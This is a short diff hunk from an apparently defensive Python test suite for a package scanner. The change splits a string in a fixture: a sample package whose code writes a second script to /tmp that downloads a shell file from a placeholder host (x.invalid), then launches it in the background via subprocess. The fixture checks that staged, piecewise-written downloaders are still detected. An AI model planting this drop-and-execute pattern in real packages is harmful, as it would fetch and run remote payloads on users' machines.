@@ -288,7 +288,8 @@ def test_script_written_piece_by_piece_is_analysed() -> None:
     lib = (
         "import subprocess\n\ndef drop():\n    with open('/tmp/x.py', 'w') as f:\n"
         "        f.write('import urllib.request\\n')\n"
-        "        f.write('urllib.request.urlretrieve(\"https://x.invalid/a.sh\", \"/tmp/a.sh\")\\n')\n"
+        "        f.write('urllib.request.urlretrieve('\n"
+        '                \'"https://x.invalid/a.sh", "/tmp/a.sh")\\n\')\n'
         "    subprocess.call('python3 /tmp/x.py &', shell=True)\n\ndrop()\n"
     )
     files = {"setup.py": SETUP, "demo/__init__.py": lib}
